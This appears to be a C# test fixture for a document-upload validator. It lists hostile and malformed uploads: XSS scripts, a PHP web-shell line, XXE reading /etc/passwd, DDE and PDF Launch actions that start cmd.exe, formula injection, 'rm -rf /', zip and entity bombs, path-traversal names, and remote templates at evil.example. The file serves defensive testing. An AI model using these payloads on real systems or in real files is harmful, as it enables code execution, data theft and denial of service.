using System.Text;
using ParScore.App.Storage;
using static ParScore.App.Evidence.EvidenceRefusals;
using static ParScore.Tests.App.Evidence.OfficeFiles;

namespace ParScore.Tests.App.Evidence;

/// <summary>The table of hostile and odd uploads.</summary>
internal static class HostileUploads
{
    private const int Megabyte = 1024 * 1024;
    private const int SmallLimit = 64 * 1024;

    private static readonly byte[] Exe = [.. "MZ\u0090\0"u8, .. new byte[60], .. "This program cannot be run in DOS mode. This program cannot be run in DOS mode."u8];
    private static readonly byte[] Html = "<html><script>alert(document.cookie)</script></html>"u8.ToArray();
    private static readonly byte[] Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8.ToArray();
    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];
    private static readonly byte[] OtherZip = ZipFiles.Of(new ZipPart("autorun.exe", Exe));

    private static readonly string[] OtherNames =
    [
        "setup.exe", "run.bat", "run.cmd", "run.com", "saver.scr", "setup.msi", "a.dll", "a.js", "a.vbs", "a.ps1", "a.sh", "a.jar", "a.lnk", "a.hta", "a.py",
        "page.html", "page.htm", "page.xhtml", "page.mht", "picture.svg", "data.xml", "all.zip", "all.rar", "all.7z", "all.tar", "all.gz", "disk.iso",
        "letter.doc", "letter.docm", "letter.dotm", "letter.rtf", "letter.odt", "table.xls", "table.xlsm", "table.xlsb", "table.xltm", "slides.ppt", "slides.pptx",
        "picture.gif", "picture.tif", "picture.webp", "picture.bmp", "note.txt", "table.csv", "mail.eml", "report.pdf.exe", "report", "report.pdf.", "report.pdf\u00A0.js",
    ];

    public static IReadOnlyList<HostileUpload> All { get; } =
    [
        .. Extensions(), .. WrongStarts(), .. Polyglots(), .. Passwords(), .. OfficePrograms(), .. OfficeXml(), .. OfficeBombs(), .. OfficeNames(),
        .. Pictures(), .. PdfPrograms(), .. PdfHidden(), .. PdfBombs(), .. Cut(), .. Lengths(),
    ];

    private static IEnumerable<HostileUpload> Extensions() =>
        from name in OtherNames
        // A full stop at the end means nothing; the name is then "report.pdf".
        select new HostileUpload($"named {name}", name, name.EndsWith('.') ? null : Extension, () => PdfFiles.Good);

    private static IEnumerable<HostileUpload> WrongStarts() =>
    [
        new("program as pdf", "a.pdf", Content, () => Exe),
        new("Linux program as pdf", "a.pdf", Content, () => [0x7F, .. "ELF"u8, .. new byte[60]]),
        new("shell script as pdf", "a.pdf", Content, () => "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        new("web page as pdf", "a.pdf", Content, () => Html),
        new("SVG as pdf", "a.pdf", Content, () => Svg),
        new("ZIP as pdf", "a.pdf", Content, () => OtherZip),
        new("picture as pdf", "a.pdf", Content, () => PictureFiles.Png),
        new("pdf behind a blank", "a.pdf", Content, () => [(byte)' ', .. PdfFiles.Good]),
        new("pdf behind a web page", "a.pdf", Content, () => [.. Html, .. PdfFiles.Good]),
        new("pdf as docx", "a.docx", Content, () => PdfFiles.Good),
        new("RTF as docx", "a.docx", Content, () => "{\\rtf1\\ansi{\\object\\objemb}}"u8.ToArray()),
        new("RAR as docx", "a.docx", Content, () => [.. "Rar!\u001A\u0007\0"u8, .. new byte[60]]),
        new("7z as xlsx", "a.xlsx", Content, () => [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, .. new byte[60]]),
        new("CSV as xlsx", "a.xlsx", Content, () => "=cmd|'/c calc'!A0;1\n"u8.ToArray()),
        new("ZIP as docx", "a.docx", Content, () => ZipFiles.Of(Part("readme.txt", "xin chào"))),
        new("ZIP with a document's name in it as docx", "a.docx", Content, () => ZipFiles.Of(Part("word/document.xml", "<a/>"))),
        new("table as docx", "a.docx", Content, () => Xlsx()),
        new("letter as xlsx", "a.xlsx", Content, () => Docx()),
        new("template as docx", "a.docx", Content, () => ZipFiles.Of(DocxParts("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"))),
        new("letter without its main part", "a.docx", Content, () => ZipFiles.Of(DocxParts()[..2])),
        new("ZIP with nothing in it as docx", "a.docx", Content, () => ZipFiles.Of()),
        new("JPEG as png", "a.png", Content, () => PictureFiles.Jpeg),
        new("SVG as png", "a.png", Content, () => Svg),
        new("GIF as png", "a.png", Content, () => [.. "GIF89a"u8, .. new byte[40]]),
        new("PNG as jpg", "a.jpg", Content, () => PictureFiles.Png),
        new("web page as jpeg", "a.jpeg", Content, () => Html),
        new("WebP as jpg", "a.jpg", Content, () => [.. "RIFF\0\0\0\0WEBP"u8, .. new byte[40]]),
    ];

    private static IEnumerable<HostileUpload> Polyglots() =>
    [
        new("pdf and ZIP", "a.pdf", Polyglot, () => [.. PdfFiles.Good, .. ZipFiles.Of(PdfFiles.Good.Length, [new ZipPart("a.exe", Exe)])]),
        new("pdf and ZIP, ended as a pdf", "a.pdf", Polyglot, () => [.. PdfFiles.Good, .. OtherZip, .. "\n%%EOF\n"u8]),
        new("pdf and web page", "a.pdf", Polyglot, () => [.. PdfFiles.Good, .. Html, .. Html]),
        new("pdf and program", "a.pdf", Polyglot, () => [.. PdfFiles.Good, .. Exe]),
        new("png and web page", "a.png", Polyglot, () => [.. PictureFiles.Png, .. Html]),
        new("png and ZIP", "a.png", Polyglot, () => [.. PictureFiles.Png, .. OtherZip]),
        new("png whose end holds a page", "a.png", Polyglot, () => PictureFiles.PngOf([("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]), ("IDAT", [1]), ("IEND", Html)])),
        new("png with a ZIP in a chunk", "a.png", Polyglot, () => PictureFiles.PngOf(8, 8, ("zzZz", OtherZip))),
        new("jpeg and ZIP", "a.jpg", Polyglot, () => [.. PictureFiles.Jpeg, .. OtherZip]),
        new("jpeg and PHP", "a.jpg", Polyglot, () => [.. PictureFiles.Jpeg, .. "<?php system($_GET[0]); ?>"u8]),
        new("jpeg and what only begins as a picture", "a.jpg", Truncated, () => [.. PictureFiles.Jpeg, 0xFF, 0xD8, .. Html]),
        new("jpeg, second picture and ZIP", "a.jpg", Polyglot, () => [.. PictureFiles.Jpeg, .. PictureFiles.Jpeg, .. OtherZip]),
        new("jpeg with a ZIP in its comment", "a.jpg", Polyglot, () => PictureFiles.JpegOf(8, 8, PictureFiles.Segment(0xFE, OtherZip))),
        new("docx behind a program", "a.docx", Content, () => [.. Exe, .. ZipFiles.Of(Exe.Length, DocxParts())]),
        new("docx behind another ZIP", "a.docx", Polyglot, () => [.. OtherZip, .. ZipFiles.Of(OtherZip.Length, DocxParts())]),
        new("docx behind another ZIP, places not moved", "a.docx", Polyglot, () => [.. OtherZip, .. Docx()]),
        new("docx and web page", "a.docx", Polyglot, () => [.. Docx(), .. Html]),
        new("docx and another ZIP", "a.docx", Polyglot, () => [.. Docx(), .. OtherZip]),
        new("xlsx with a comment behind its directory", "a.xlsx", Polyglot, () => [.. Xlsx()[..^2], 5, 0, .. "MZ..."u8]),
        new("docx with two names for one part", "a.docx", Package, () => Docx(new ZipPart("word/media/image1.png", PictureFiles.Png) { LocalName = "../../../image1.png" })),
    ];

    private static IEnumerable<HostileUpload> Passwords() =>
    [
        new("pdf with a password", "a.pdf", Encrypted, () => PdfFiles.With("", "/Encrypt 5 0 R", "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O (00000000000000000000000000000000) /U (00000000000000000000000000000000) >>")),
        new("pdf with a password, named otherwise", "a.pdf", Encrypted, () => PdfFiles.With("", "/#45ncrypt 5 0 R", "<< /Filter /Standard >>")),
        new("docx with a password", "a.docx", Encrypted, () => Compound),
        new("xlsx with a password", "a.xlsx", Encrypted, () => Compound),
        new("docx whose part has a password", "a.docx", Encrypted, () => Docx(Part("word/secret.xml", "<a/>") with { IsEncrypted = true })),
        new("xlsx whose part has a password", "a.xlsx", Encrypted, () => Xlsx(new ZipPart("xl/secret.bin", Exe) { IsEncrypted = true })),
    ];

    private static IEnumerable<HostileUpload> OfficePrograms() =>
    [
        new("docx with macros", "a.docx", Active, () => Docx(new ZipPart("word/vbaProject.bin", Compound))),
        new("xlsx with macros", "a.xlsx", Active, () => Xlsx(new ZipPart("xl/vbaProject.bin", Compound))),
        new("xlsx with macros under another name", "a.xlsx", Active, () => Xlsx(new ZipPart("xl/x.bin", Compound), Relations("xl/_rels/x.xml.rels", """<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>"""))),
        new("docm as docx", "a.docx", Active, () => ZipFiles.Of(DocxParts("application/vnd.ms-word.document.macroEnabled.main+xml"))),
        new("xlsm as xlsx", "a.xlsx", Active, () => ZipFiles.Of(XlsxParts("application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
        new("xlsx with a macro sheet", "a.xlsx", Active, () => Xlsx(Part("xl/macrosheets/sheet1.xml", "<a/>"))),
        new("docx with ActiveX", "a.docx", Active, () => Docx(Part("word/activeX/activeX1.xml", "<a/>"))),
        new("docx with an OLE object", "a.docx", Active, () => Docx(new ZipPart("word/embeddings/oleObject1.bin", Compound))),
        new("docx with a program", "a.docx", Active, () => Docx(new ZipPart("word/media/setup.exe", Exe))),
        new("docx with a script", "a.docx", Active, () => Docx(new ZipPart("word/media/a.js", "alert(1)"u8.ToArray()))),
        new("docx with a page", "a.docx", Active, () => Docx(new ZipPart("word/chunk.html", Html))),
        new("docx with a docm in it", "a.docx", Active, () => Docx(new ZipPart("word/embeddings/a.docm", Docx()))),
        new("docx with a template elsewhere", "a.docx", Active, () => Docx(Elsewhere("attachedTemplate", "http://evil.example/a.dotm", "word/_rels/settings.xml.rels"))),
        new("docx with an object elsewhere", "a.docx", Active, () => Docx(Elsewhere("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"))),
        new("docx with a frame elsewhere", "a.docx", Active, () => Docx(Elsewhere("frame", "file://evil.example/share/a.htm"))),
        new("docx with a part of the text elsewhere", "a.docx", Active, () => Docx(Elsewhere("subDocument", "http://evil.example/a.docx"))),
        new("docx with a foreign chunk elsewhere", "a.docx", Active, () => Docx(Elsewhere("aFChunk", "http://evil.example/a.rtf"))),
        new("docx with a script as a link", "a.docx", Active, () => Docx(Elsewhere("hyperlink", " JavaScript:alert(1)"))),
        new("xlsx that starts a program by DDE", "a.xlsx", Active, () => Xlsx(Part("xl/externalLinks/externalLink1.xml", """<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"""))),
        new("docx that starts a program by DDE", "a.docx", Active, () => Docx(Part("word/footnotes.xml", """<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:footnotes>"""))),
        new("docx that starts a program by a simple DDE field", "a.docx", Active, () => Docx(Part("word/footnotes.xml", """<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr="dde cmd.exe calc"/></w:footnotes>"""))),
        // A picture elsewhere is fetched by Word when an official opens it, and runs nothing.
        new("docx with a picture elsewhere", "a.docx", null, () => Docx(Elsewhere("image", "http://example.com/a.png"))),
    ];

    private static IEnumerable<HostileUpload> OfficeXml() =>
    [
        new("docx with a document type", "a.docx", Package, () => Docx(Part("word/x.xml", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"))),
        new("docx that reads a file of the server", "a.docx", Package, () => Docx(Part("word/x.xml", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>"))),
        new("docx with an entity bomb", "a.docx", Package, () => Docx(Part("word/x.xml", $"<!DOCTYPE a [<!ENTITY a0 \"ha\">{string.Concat(Enumerable.Range(1, 30).Select(i => $"<!ENTITY a{i} \"&a{i - 1};&a{i - 1};\">"))}]><a>&a30;</a>"))),
        new("docx with an unknown entity", "a.docx", Package, () => Docx(Part("word/x.xml", "<a>&e;</a>"))),
        new("docx with deep XML", "a.docx", Package, () => Docx(Part("word/x.xml", string.Concat(Enumerable.Repeat("<a>", 100_000)) + string.Concat(Enumerable.Repeat("</a>", 100_000))))),
        new("docx with deep XML that does not end", "a.docx", Package, () => Docx(new ZipPart("word/x.xml", "<a>"u8.ToArray()) { Times = 1_000_000 })),
        new("docx with unfinished XML", "a.docx", Package, () => Docx(Part("word/x.xml", "<a><b></a>"))),
        new("docx with an empty XML part", "a.docx", Package, () => Docx(Part("word/x.xml", ""))),
        new("docx with XML in an unknown encoding", "a.docx", Package, () => Docx(Part("word/x.xml", "<?xml version=\"1.0\" encoding=\"x-evil\"?><a/>"))),
        new("docx with a control character in its XML", "a.docx", Package, () => Docx(Part("word/x.xml", "<a>\u0001</a>"))),
        new("docx whose bytes are not packed as they claim", "a.docx", Package, () => Docx(Part("word/x.xml", "<a/>") with { IsPacked = false, ClaimedMethod = 8 })),
        new("docx packed in an unknown way", "a.docx", Package, () => Docx(Part("word/x.xml", "<a/>") with { ClaimedMethod = 99 })),
    ];

    private static IEnumerable<HostileUpload> OfficeBombs() =>
    [
        new("docx that unpacks to 600 MB in one part", "a.docx", Bomb, () => Docx(new ZipPart("word/media/a.bin", new byte[Megabyte]) { Times = 600 })),
        new("docx that unpacks to 600 MB in thirty parts", "a.docx", Bomb, () => Docx([.. Enumerable.Range(0, 30).Select(i => new ZipPart($"word/media/{i}.bin", Noise(20_000)) { Times = 1000 })])),
        new("docx that unpacks to a thousand times its size", "a.docx", Bomb, () => Docx(new ZipPart("word/media/a.bin", new byte[Megabyte]) { Times = 16 })),
        new("docx with XML of 600 MB", "a.docx", Bomb, () => Docx(new ZipPart("word/x.xml", [.. "<!--"u8, .. Noise(20_000), .. "-->\n"u8]) { Times = 30_000 })),
        new("docx with blanks of 64 MB as XML", "a.docx", Bomb, () => Docx(new ZipPart("word/x.xml", Enumerable.Repeat((byte)' ', Megabyte).ToArray()) { Times = 64 })),
        new("docx that claims a small size and unpacks to 600 MB", "a.docx", Bomb, () => Docx(new ZipPart("word/media/a.bin", new byte[Megabyte]) { Times = 600, ClaimedSize = 10 })),
        new("docx that claims one byte less", "a.docx", Package, () => Docx(new ZipPart("word/media/a.bin", Exe) { ClaimedSize = (uint)Exe.Length - 1 })),
        new("docx that claims 4 GB and holds little", "a.docx", Package, () => Docx(new ZipPart("word/media/a.bin", Exe) { ClaimedSize = uint.MaxValue - 1 })),
        new("docx with a bomb inside a docx", "a.docx", null, () => Docx(new ZipPart("word/embeddings/a.docx", Docx(new ZipPart("word/media/a.bin", new byte[Megabyte]) { Times = 600 })))),
        new("docx with an attribute of 20 MB", "a.docx", Bomb, () => Docx(new ZipPart("word/x.xml", [.. "<a b=\""u8, .. Noise(20 * Megabyte)]))),
        new("docx with a million names", "a.docx", Bomb, () => Docx(Part("word/x.xml", $"<a>{string.Concat(Enumerable.Range(0, 1_000_000).Select(i => $"<a{i}/>"))}</a>"))),
        new("docx with 6,000 parts", "a.docx", Bomb, () => Docx([.. Enumerable.Range(0, 6000).Select(i => Part($"word/{i}.xml", "<a/>"))])),
        new("xlsx that unpacks to more than its limit", "a.xlsx", Bomb, () => Xlsx(new ZipPart("xl/a.bin", Noise(Megabyte)) { Times = 2 })) { Settings = new() { MinFreeBytes = 0, MaxUnpackedBytes = Megabyte } },
    ];

    private static IEnumerable<HostileUpload> OfficeNames() =>
        from name in new[] { "../evil.xml", "word/../../evil.xml", "/etc/cron.d/evil", "word\\evil.xml", "..\\evil.xml", "C:/evil.xml", "word/./evil.xml", "word/evil.xml:stream", "word/evil\0.xml", new string('a', 600) + ".xml", "word/document.xml", "WORD/DOCUMENT.XML", "[content_types].xml" }
        select new HostileUpload($"docx with a part named {(name.Length > 100 ? "very long" : name.Replace('\0', '0'))}", "a.docx", Package, () => Docx(Part(name, "<a/>")));

    private static IEnumerable<HostileUpload> Pictures() =>
    [
        new("png of 4 billion by 4 billion", "a.png", Pixels, () => PictureFiles.PngOf(uint.MaxValue, uint.MaxValue)),
        new("png of 50,000 by 50,000", "a.png", Pixels, () => PictureFiles.PngOf(50_000, 50_000)),
        new("png just above the limit", "a.png", Pixels, () => PictureFiles.PngOf(15_000, 10_001)),
        new("png without height", "a.png", Truncated, () => PictureFiles.PngOf(8, 0)),
        new("png without data", "a.png", Truncated, () => PictureFiles.PngOf([("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]), ("IEND", [])])),
        new("png with a second head", "a.png", Truncated, () => PictureFiles.PngOf(8, 8, ("IHDR", [0, 1, 0, 0, 0, 1, 0, 0, 8, 0, 0, 0, 0]))),
        new("png whose chunk claims 2 GB", "a.png", Truncated, () => [.. PictureFiles.Png[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. "IDAT"u8, .. new byte[50]]),
        new("png of a million empty chunks", "a.png", null, () => [.. PictureFiles.Png[..^12], .. Enumerable.Repeat(new byte[] { 0, 0, 0, 0, (byte)'I', (byte)'D', (byte)'A', (byte)'T', 0x35, 0xAF, 0x06, 0x1E }, 1_000_000).SelectMany(c => c), .. PictureFiles.Png[^12..]]),
        new("jpeg of 65,535 by 65,535", "a.jpg", Pixels, () => PictureFiles.JpegOf(65_535, 65_535)),
        new("progressive jpeg of 65,535 by 65,535", "a.jpg", Pixels, () => PictureFiles.ProgressiveJpeg(65_535, 65_535)),
        new("jpeg whose second picture is of 65,535 by 65,535", "a.jpg", Pixels, () => [.. PictureFiles.Jpeg, .. PictureFiles.JpegOf(65_535, 65_535)]),
        new("jpeg whose height comes later", "a.jpg", Truncated, () => PictureFiles.JpegOf(65_535, 0)),
        new("jpeg without width", "a.jpg", Truncated, () => PictureFiles.JpegOf(0, 8)),
        new("jpeg without a picture", "a.jpg", Truncated, () => [0xFF, 0xD8, 0xFF, 0xD9, .. new byte[20]]),
        new("jpeg without a scan", "a.jpg", Truncated, () => [0xFF, 0xD8, .. PictureFiles.Segment(0xC0, 8, 0, 8, 0, 8, 1, 1, 0x11, 0), 0xFF, 0xD9]),
        new("jpeg whose segment has no length", "a.jpg", Truncated, () => [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, .. PictureFiles.Jpeg[2..]]),
        new("jpeg of 4 million empty segments", "a.jpg", null, () => [0xFF, 0xD8, .. Enumerable.Repeat(new byte[] { 0xFF, 0xFE, 0, 2 }, 4_000_000).SelectMany(s => s), .. PictureFiles.Jpeg[2..]]),
    ];

    private static IEnumerable<HostileUpload> PdfPrograms() =>
    [
        new("pdf with a script at opening", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction 5 0 R", PdfFiles.Script)),
        new("pdf with a script in its catalog", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        new("pdf with named scripts", "a.pdf", Active, () => PdfFiles.Opening("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", PdfFiles.Script)),
        new("pdf with a script named in hexadecimal", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /#4a#61vaScript /JS (1) >>")),
        new("pdf with a script named wholly in hexadecimal", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS (1) >>")),
        new("pdf with a script in an object stream", "a.pdf", Active, () => PdfFiles.Modern("/OpenAction 7 0 R", PdfFiles.Script)),
        new("pdf with a script in hexadecimal in an object stream", "a.pdf", Active, () => PdfFiles.Modern("/OpenAction 7 0 R", "<</S/J#61vaScript/JS(1)>>")),
        new("pdf with a script in an object stream that is not packed", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction 9 0 R", PdfFiles.PlainObjectStream((9, PdfFiles.Script)))),
        new("pdf that starts a program", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        new("pdf with a program when a page opens", "a.pdf", Active, () => PdfFiles.Of("<< /AA << /O << /S /Launch /F (a.exe) >> >> >>")),
        new("pdf with an embedded file", "a.pdf", Active, () => PdfFiles.Opening("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", PdfFiles.Packed("/Type /EmbeddedFile", "MZ"))),
        new("pdf with a file as a note", "a.pdf", Active, () => PdfFiles.Of("<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >> >>", PdfFiles.Packed("", "MZ"))),
        new("pdf with rich media", "a.pdf", Active, () => PdfFiles.Of("<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>")),
        new("pdf with a script in a rendition", "a.pdf", Active, () => PdfFiles.Of("<< /S /Rendition /OP 0 /JS (1) >>")),
        new("pdf with a script in a 3D picture", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.Packed("/Type /3D /Subtype /U3D /OnInstantiate 6 0 R", "U3D"), PdfFiles.Packed("", "1"))),
        new("pdf with XFA", "a.pdf", Active, () => PdfFiles.Opening("/AcroForm << /Fields [] /XFA 5 0 R >>", PdfFiles.Packed("", "<xdp/>"))),
        new("pdf that sends a form", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /SubmitForm /F (http://evil.example) >>")),
        new("pdf that imports data", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /ImportData /F (a.fdf) >>")),
        new("pdf that goes to an embedded file", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>")),
        new("pdf with a script added after the end", "a.pdf", Active, () => [.. PdfFiles.Good, .. PdfFiles.Bytes("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>\nendobj\nxref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n")]),
    ];

    // What a viewer finds by the cross-reference table, whatever stands around it.
    private static IEnumerable<HostileUpload> PdfHidden() =>
    [
        new("pdf with a script in a stream", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction 9 0 R", PdfFiles.Stream("", $"9 0 obj {PdfFiles.Script} endobj"))),
        new("pdf with a script in a string", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction 9 0 R", $"(\n9 0 obj {PdfFiles.Script} endobj\n)")),
        new("pdf with a script in a comment", "a.pdf", Active, () => PdfFiles.Opening("/OpenAction 9 0 R", $"null\n%9 0 obj {PdfFiles.Script} endobj")),
        new("pdf with an object stream in a stream", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.Stream("", "").Replace("\nendstream", $"\nendobj\n9 0 obj\n{PdfFiles.ObjectStream((8, PdfFiles.Script))}", StringComparison.Ordinal))),
        new("pdf with an object stream in a string", "a.pdf", Active, () => PdfFiles.Of($"(9 0 obj {PdfFiles.ObjectStream((8, PdfFiles.Script)).Replace("(", "", StringComparison.Ordinal).Replace(")", "", StringComparison.Ordinal)} endobj)")),
        new("pdf whose stream ends twice", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.Stream("", "endstr").Replace("\nendstream", "endstream", StringComparison.Ordinal), PdfFiles.ObjectStream((8, PdfFiles.Script)))),
        new("pdf with an object stream without its type", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.ObjectStream("", (8, PdfFiles.Script)))),
        new("pdf with an object stream of another type", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.ObjectStream("/Type /XObject", (8, PdfFiles.Script)))),
        new("pdf with an object stream named in hexadecimal", "a.pdf", Active, () => PdfFiles.Of(PdfFiles.ObjectStream("/Type /#4fbjStm", (8, PdfFiles.Script)))),
        new("pdf whose stream begins behind a tabulator", "a.pdf", Truncated, () => PdfFiles.Of(PdfFiles.ObjectStream((8, PdfFiles.Script)).Replace("stream\n", "stream\t\n", StringComparison.Ordinal))),
        new("pdf whose stream's dictionary does not end", "a.pdf", Active, () => PdfFiles.Of($"<< {PdfFiles.ObjectStream((8, PdfFiles.Script))}")),
        new("pdf with an object stream packed twice", "a.pdf", Truncated, () => PdfFiles.Of(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", PdfFiles.Flate(PdfFiles.Flate($"8 0 {PdfFiles.Script}"))))),
        new("pdf with an object stream in hexadecimal", "a.pdf", Truncated, () => PdfFiles.Of(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", Convert.ToHexString(PdfFiles.Bytes($"8 0 {PdfFiles.Script}")) + ">"))),
        new("pdf with an object stream and a predictor", "a.pdf", Truncated, () => PdfFiles.Of(PdfFiles.ObjectStream("/Type /ObjStm /DecodeParms << /Predictor 12 >>", (8, PdfFiles.Script)))),
        new("pdf with an object stream that cannot be unpacked", "a.pdf", Truncated, () => PdfFiles.Of(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "no flate"))),
    ];

    private static IEnumerable<HostileUpload> PdfBombs() =>
    [
        new("pdf whose object stream unpacks to 600 MB", "a.pdf", Bomb, () => PdfFiles.Of(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PdfFiles.Flate(new byte[Megabyte], times: 600)))),
        new("pdf with a hundred object streams of 60 MB", "a.pdf", Bomb, () => Enumerable.Repeat(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PdfFiles.Flate(new byte[Megabyte], times: 60)), 100).ToArray() is var streams ? PdfFiles.Of(streams) : []),
        new("pdf whose object stream has 60 MB of slashes", "a.pdf", Bomb, () => PdfFiles.Of(PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", new string('/', 60 * Megabyte)))),
        // Page content is drawn by the viewer, page by page; it is not unpacked here.
        new("pdf whose page unpacks to 600 MB", "a.pdf", null, () => PdfFiles.Of(PdfFiles.Stream("/Filter /FlateDecode", PdfFiles.Flate(new byte[Megabyte], times: 600)))),
        new("pdf with 30 million open brackets", "a.pdf", Truncated, () => PdfFiles.Of(new string('(', 30 * Megabyte))),
        new("pdf with 30 million open dictionaries", "a.pdf", null, () => PdfFiles.Of(string.Concat(Enumerable.Repeat("<<", 15 * Megabyte)))),
        new("pdf with 5 million names", "a.pdf", null, () => PdfFiles.Of("<<" + string.Concat(Enumerable.Range(0, 5_000_000).Select(i => $"/A{i} ")) + ">>")),
        new("pdf with a name of 30 MB", "a.pdf", null, () => PdfFiles.Of("/" + new string('a', 30 * Megabyte))),
        new("pdf with a stream of 60 MB of slashes", "a.pdf", null, () => PdfFiles.Of(PdfFiles.Stream("", new string('/', 60 * Megabyte)))),
    ];

    private static IEnumerable<HostileUpload> Cut()
    {
        foreach (var (name, file) in new[] { ("a.pdf", PdfFiles.Good), ("modern.pdf", PdfFiles.Modern()), ("a.docx", Docx()), ("a.xlsx", Xlsx()), ("a.png", PictureFiles.Png), ("a.jpg", PictureFiles.Jpeg) })
        {
            yield return new HostileUpload($"{name} of 1 byte", name, Content, () => file[..1]);
            foreach (var percent in new[] { 10, 50, 90 })
            {
                yield return new HostileUpload($"{name} cut at {percent} percent", name, Truncated, () => file[..Math.Max(8, file.Length * percent / 100)]);
            }

            // A pdf's last byte is a line break.
            yield return new HostileUpload($"{name} cut before its last two bytes", name, Truncated, () => file[..^2]);
        }

        yield return new("a pdf that is only its first line", "a.pdf", Truncated, () => "%PDF-1.7\n"u8.ToArray());
        yield return new("a pdf cut inside a stream, with an end", "a.pdf", Truncated, () => [.. PdfFiles.Good[..(PdfFiles.Good.AsSpan().IndexOf("endstream"u8) - 2)], .. "\n%%EOF\n"u8]);
        yield return new("a docx of zeros behind its start", "a.docx", Truncated, () => [.. "PK\u0003\u0004"u8, .. new byte[100_000]]);
    }

    private static IEnumerable<HostileUpload> Lengths()
    {
        foreach (var name in new[] { "a.pdf", "a.docx", "a.xlsx", "a.png", "a.jpg" })
        {
            yield return new HostileUpload($"{name} of 0 bytes", name, Empty, () => []);
        }

        var small = new DataSettings { MinFreeBytes = 0, MaxFileBytes = SmallLimit };
        yield return new("one byte below the limit", "a.pdf", null, () => PdfOfLength(SmallLimit - 1)) { Settings = small };
        yield return new("at the limit", "a.pdf", null, () => PdfOfLength(SmallLimit)) { Settings = small };
        yield return new("one byte above the limit", "a.pdf", TooLarge, () => PdfOfLength(SmallLimit + 1)) { Settings = small };
        yield return new("one byte above the limit, and one byte less announced", "a.pdf", TooLarge, () => PdfOfLength(SmallLimit + 1)) { Settings = small, AnnouncedTooMany = -1 };
        yield return new("one byte above the limit of a new installation", "a.pdf", TooLarge, () => new byte[(100 * Megabyte) + 1]) { AnnouncedTooMany = -1 };
        yield return new("announced longer than it comes", "a.pdf", LengthDiffers, () => PdfFiles.Good) { AnnouncedTooMany = 1 };
        yield return new("announced shorter than it comes", "a.pdf", LengthDiffers, () => PdfFiles.Good) { AnnouncedTooMany = -1 };
        yield return new("announced as nothing", "a.pdf", LengthDiffers, () => PdfFiles.Good) { AnnouncedTooMany = -PdfFiles.Good.Length };
        yield return new("announced as gigabytes", "a.pdf", TooLarge, () => PdfFiles.Good) { AnnouncedTooMany = int.MaxValue };
    }

    private static byte[] PdfOfLength(int length)
    {
        var filler = length - PdfFiles.Of(PdfFiles.Stream("", "")).Length;
        for (; ; filler--)
        {
            if (PdfFiles.Of(PdfFiles.Stream("", new string(' ', filler))) is var file && file.Length == length)
            {
                return file;
            }
        }
    }

    // The same on every run, and hard to pack; no letters that XML minds.
    private static byte[] Noise(int length)
    {
        var (bytes, random) = (new byte[length], new Random(20));
        for (var i = 0; i < length; i++)
        {
            bytes[i] = (byte)random.Next('0', 'z');
        }

        return Encoding.ASCII.GetBytes(Encoding.ASCII.GetString(bytes).Replace('<', '.').Replace('>', '.'));
    }
}
